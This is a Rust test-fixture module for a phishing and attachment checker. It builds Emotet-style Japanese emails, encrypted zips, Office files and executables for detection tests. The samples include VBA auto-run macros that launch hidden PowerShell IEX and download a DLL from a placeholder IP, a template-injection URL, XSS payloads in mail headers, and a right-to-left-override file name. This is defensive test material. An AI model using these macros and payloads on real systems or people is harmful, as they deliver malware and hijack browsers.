//! The named fixture set: every golden test case, and the files the browser tests drop on the
//! page (`cargo run --example fixtures -- DIR` writes them). Built in code from the builders.

use super::{mailgen, olegen, zipgen};
use tenpu::Options;

pub struct Fixture {
    /// Folder of the golden file: where the case comes from (`combined`, `mail`, `archive`, ...).
    pub group: &'static str,
    /// Golden file stem, and the file name the browser fixtures are written as (plus `file`).
    pub name: &'static str,
    /// The file name the checker is given.
    pub file: &'static str,
    pub bytes: Vec<u8>,
    pub options: Options,
}

fn opts(trusted: &[&str], orgs: &[&str]) -> Options {
    Options {
        trusted_domains: trusted.iter().map(|s| s.to_string()).collect(),
        org_names: orgs.iter().map(|s| s.to_string()).collect(),
        ..Options::default()
    }
}

const AUTOOPEN_SHELL: &str = "Attribute VB_Name = \"Module1\"\r\n\
Sub AutoOpen()\r\n\
    ' 請求書を表示します\r\n\
    Dim s As String\r\n\
    s = \"powershell -w hidden -c \" & Chr(34) & \"IEX\" & Chr(34)\r\n\
    Shell s, vbHide\r\n\
End Sub\r\n";

const WORKBOOK_OPEN_DOWNLOAD: &str = "Attribute VB_Name = \"ThisWorkbook\"\r\n\
Private Sub Workbook_Open()\r\n\
    URLDownloadToFile 0, \"http://203.0.113.7/a.dll\", Environ(\"TEMP\") & \"\\a.dll\", 0, 0\r\n\
End Sub\r\n";

const PLAIN_MACRO: &str = "Attribute VB_Name = \"集計\"\r\n\
Sub 合計を計算()\r\n\
    Range(\"A10\").Value = WorksheetFunction.Sum(Range(\"A1:A9\"))\r\n\
End Sub\r\n";

/// A minimal valid PE header (MZ, e_lfanew, PE\0\0): enough to be recognised, runs nothing.
pub fn tiny_pe() -> Vec<u8> {
    let mut pe = vec![0u8; 512];
    pe[0] = b'M';
    pe[1] = b'Z';
    pe[0x3C] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    pe[0x84..0x86].copy_from_slice(&0x014Cu16.to_le_bytes()); // i386
    pe
}

/// An OOXML `.docm`: document, content types, a VBA project and an external template.
pub fn docm(modules: &[(&str, &str)], template_url: Option<&str>) -> Vec<u8> {
    let vba = olegen::vba_project_bin(modules);
    let rels = template_url.map(|u| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"{u}\" TargetMode=\"External\"/>\
</Relationships>"
        )
    });
    let ct = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
<Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    let doc = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>コンテンツの有効化をクリックしてください</w:t></w:r></w:p></w:body></w:document>";
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", ct.as_bytes()),
        ("word/document.xml", doc.as_bytes()),
    ];
    if !modules.is_empty() {
        entries.push(("word/vbaProject.bin", &vba));
    }
    if let Some(r) = &rels {
        entries.push(("word/_rels/settings.xml.rels", r.as_bytes()));
    }
    zipgen::plain(&entries)
}

/// The spoofed sender of the Emotet-pattern mails: a partner's address in the display name, an
/// unrelated domain in the address, a `Re:` without In-Reply-To (also used by `benchgen`).
pub const SPOOF_HEADERS: &[(&str, &str)] = &[
    (
        "From",
        "\"田中 太郎 <tanaka@partner.co.jp>\" <tanaka.partner@mail-delivery.example.net>",
    ),
    ("To", "suzuki@example.co.jp"),
    ("Subject", "Re: 会議資料の件"),
    ("Date", "Mon, 23 Nov 2026 09:12:00 +0900"),
    (
        "Message-ID",
        "<20261123091200.1234@mail-delivery.example.net>",
    ),
];

/// Every fixture, in a fixed order.
pub fn all() -> Vec<Fixture> {
    let mut v = Vec::new();
    let macro_doc = olegen::vba_doc(&[("Module1", AUTOOPEN_SHELL)]);

    // ---- the Emotet pattern, end to end ----
    v.push(Fixture {
        group: "combined",
        name: "spoofed-zip-macro",
        file: "spoofed-zip-macro.eml",
        bytes: mailgen::eml_iso2022jp(
            SPOOF_HEADERS,
            "鈴木様\r\n\r\nいつもお世話になっております。\r\n会議資料を送付いたします。\r\n\r\nパスワード：Kaigi2026\r\n\r\n> 先日の件、よろしくお願いします。\r\n",
            &[("会議資料.zip", &zipgen::zip_crypto(&[("会議資料.doc", &macro_doc)], "Kaigi2026"))],
        ),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "combined",
        name: "sjis-aes-xls-download",
        file: "sjis-aes-xls-download.eml",
        bytes: mailgen::eml_sjis(
            &[
                ("From", "\"経理部 佐藤\" <sato@keiri-dept.example.org>"),
                ("To", "yamada@example.co.jp"),
                ("Subject", "【転送】請求書の送付"),
                ("Date", "Tue, 24 Nov 2026 10:00:00 +0900"),
            ],
            "山田様\r\n\r\n請求書をお送りします。\r\n解凍パスワード\r\nＳｅｉｋｙｕ７７\r\n",
            &[(
                "請求書.zip",
                &zipgen::aes256(
                    &[(
                        "請求書.xls",
                        &olegen::vba_xls(&[("ThisWorkbook", WORKBOOK_OPEN_DOWNLOAD)]),
                    )],
                    "Seikyu77",
                ),
            )],
        ),
        options: Options::default(),
    });

    // ---- mail-only cases ----
    v.push(Fixture {
        group: "mail",
        name: "clean-reply",
        file: "clean-reply.eml",
        bytes: mailgen::eml_iso2022jp(
            &[
                ("From", "日本医師会 事務局 <jimukyoku@example.co.jp>"),
                ("To", "member@example.ne.jp"),
                ("Subject", "Re: 研修会のご案内"),
                ("Date", "Wed, 25 Nov 2026 15:00:00 +0900"),
                ("Message-ID", "<reply-1@example.co.jp>"),
                ("In-Reply-To", "<orig-1@example.ne.jp>"),
                ("References", "<orig-1@example.ne.jp>"),
                ("Authentication-Results", "mx.example.ne.jp; spf=pass smtp.mailfrom=example.co.jp; dkim=pass header.d=example.co.jp; dmarc=pass header.from=example.co.jp"),
            ],
            "ご返信ありがとうございます。\r\n研修会は12月3日に開催いたします。\r\n",
            &[],
        ),
        options: opts(&["example.co.jp"], &["日本医師会"]),
    });
    v.push(Fixture {
        group: "mail",
        name: "org-spoof",
        file: "org-spoof.eml",
        bytes: mailgen::eml_iso2022jp(
            &[
                ("From", "日本医師会 <info@jma-notice.example.com>"),
                ("To", "member@example.ne.jp"),
                ("Subject", "【日本医師会】会員情報の確認のお願い"),
                ("Date", "Wed, 25 Nov 2026 15:00:00 +0900"),
                ("Reply-To", "support@other-domain.example"),
                ("Authentication-Results", "mx.example.ne.jp; spf=fail smtp.mailfrom=jma-notice.example.com; dmarc=fail header.from=jma-notice.example.com"),
            ],
            "会員情報の確認をお願いいたします。\r\n",
            &[],
        ),
        options: opts(&["med.or.jp", "po.med.or.jp"], &["日本医師会"]),
    });
    v.push(Fixture {
        group: "mail",
        name: "link-mismatch",
        file: "link-mismatch.eml",
        bytes: mailgen::eml_html(
            &[
                ("From", "Bank <notice@bank.example.jp>"),
                ("To", "user@example.co.jp"),
                ("Subject", "お取引の確認"),
                ("Date", "Thu, 26 Nov 2026 08:00:00 +0900"),
            ],
            "<html><body><p>下記よりログインしてください。</p>\
<a href=\"http://198.51.100.23/login\">https://www.bank.example.jp/login</a>\
<p><a href=\"https://xn--80ak6aa92e.example/\">www.bank.example.jp</a></p></body></html>",
        ),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "mail",
        name: "hostile",
        file: "hostile.eml",
        bytes: mailgen::eml(
            &[
                (
                    "From",
                    "\"<img src=x onerror=window.__pwned=1>\" <a@hostile.example>",
                ),
                ("To", "b@example.co.jp"),
                ("Subject", "<script>window.__pwned=1</script> 請求書"),
                ("Date", "Thu, 26 Nov 2026 08:00:00 +0900"),
            ],
            "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>\r\n",
            &[("請求書\u{202E}fdp.exe", &tiny_pe())],
        ),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "mail",
        name: "double-extension",
        file: "double-extension.eml",
        bytes: mailgen::eml(
            &[
                ("From", "Yamada <yamada@example.co.jp>"),
                ("To", "b@example.co.jp"),
                ("Subject", "請求書"),
                ("Date", "Thu, 26 Nov 2026 08:00:00 +0900"),
            ],
            "請求書を添付します。\r\n",
            &[("請求書.pdf.exe", &tiny_pe())],
        ),
        options: Options::default(),
    });

    // ---- archives ----
    v.push(Fixture {
        group: "archive",
        name: "encrypted-unknown-password",
        file: "unknown-password.zip",
        bytes: zipgen::zip_crypto(&[("資料.doc", &macro_doc)], "not-in-any-body"),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "archive",
        name: "cp932-names",
        file: "cp932.zip",
        bytes: zipgen::cp932_names(&[
            ("会議資料/議事録.txt", "議事録".as_bytes()),
            ("会議資料/起動.exe", &tiny_pe()),
        ]),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "archive",
        name: "nested-clean",
        file: "nested.zip",
        bytes: zipgen::plain(&[(
            "inner.zip",
            &zipgen::plain(&[("メモ.txt", "こんにちは".as_bytes())]),
        )]),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "archive",
        name: "overlapping",
        file: "overlapping.zip",
        bytes: zipgen::overlapping(),
        options: Options::default(),
    });

    // ---- office ----
    v.push(Fixture {
        group: "office",
        name: "plain-macro-xls",
        file: "集計.xls",
        bytes: olegen::vba_xls(&[("集計", PLAIN_MACRO)]),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "office",
        name: "xls-very-hidden-macro-sheet",
        file: "macrosheet.xls",
        bytes: olegen::xls_with_macro_sheet(2),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "office",
        name: "encrypted-ooxml",
        file: "encrypted.docx",
        bytes: olegen::encrypted_ooxml(),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "office",
        name: "docm-template-injection",
        file: "report.docm",
        bytes: docm(
            &[("NewMacros", AUTOOPEN_SHELL)],
            Some("http://203.0.113.9/template.dotm"),
        ),
        options: Options::default(),
    });

    // ---- bare files ----
    v.push(Fixture {
        group: "file",
        name: "invoice",
        file: "invoice.exe",
        bytes: tiny_pe(),
        options: Options::default(),
    });
    v.push(Fixture {
        group: "file",
        name: "notes",
        file: "notes.txt",
        bytes: "会議のメモ\n12月3日 10時\n".as_bytes().to_vec(),
        options: Options::default(),
    });
    v
}
